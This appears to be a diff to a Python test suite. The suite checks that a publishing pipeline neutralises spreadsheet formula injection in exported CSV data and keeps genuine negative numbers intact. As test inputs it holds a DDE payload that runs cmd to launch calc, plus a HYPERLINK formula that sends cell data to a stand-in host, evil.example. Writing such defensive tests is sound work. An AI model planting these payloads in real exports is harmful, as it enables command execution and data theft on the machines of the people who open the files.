@@ -30,6 +30,16 @@ def _datastore_records(ckan, resource_id):
     return ckan.action.datastore_search(resource_id=resource_id, limit=1000)["records"]
 
 
+DDE = "-2+3+cmd|' /C calc'!A0"
+
+
+def test_only_whole_negative_numbers_keep_their_minus():
+    from publish.files import neutralise
+
+    assert [neutralise(v) for v in ("-5", "-0,5", "-1.797", "-2+3", DDE, "-", "+84912", "\tx", 5)] == [
+        "-5", "-0,5", "-1.797", "'-2+3", "'" + DDE, "'-", "'+84912", "'\tx", 5]
+
+
 def test_formula_cells_are_neutralised_and_negative_numbers_kept(ckan, marts_copy, prefix):
     hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
     tamper(marts_copy, "fact_ocop_products", f"""
@@ -37,7 +47,9 @@ def test_formula_cells_are_neutralised_and_negative_numbers_kept(ckan, marts_cop
             case when row_number() over (order by product_name) = 1 then '{hyperlink.replace("'", "''")}'
                  else product_name end as product_name,
             case when row_number() over (order by product_name) = 2 then '@SUM(A1:A9)' else category end as category,
-            case when row_number() over (order by product_name) = 3 then '-5' else producer end as producer,
+            case when row_number() over (order by product_name) = 3 then '-5'
+                 when row_number() over (order by product_name) = 4 then '{DDE.replace("'", "''")}'
+                 else producer end as producer,
             case when row_number() over (order by product_name) = 3 then -5 else ecommerce_platform_count end
                 as ecommerce_platform_count)
         from m""")
@@ -51,6 +63,7 @@ def test_formula_cells_are_neutralised_and_negative_numbers_kept(ckan, marts_cop
         assert {r["category"] for r in rows} >= {"'@SUM(A1:A9)"}
         negative = next(r for r in rows if r["producer"] == "-5")
         assert negative["ecommerce_platform_count"] == "-5"
+        assert "'" + DDE in {r["producer"] for r in rows}  # starts with "-" and a digit, yet no number
         assert not [v for r in rows for v in r.values() if v and v[0] in "=+@\t\r"]
     records = _datastore_records(ckan, resources["csv"]["id"])
     assert -5 in {r["ecommerce_platform_count"] for r in records}
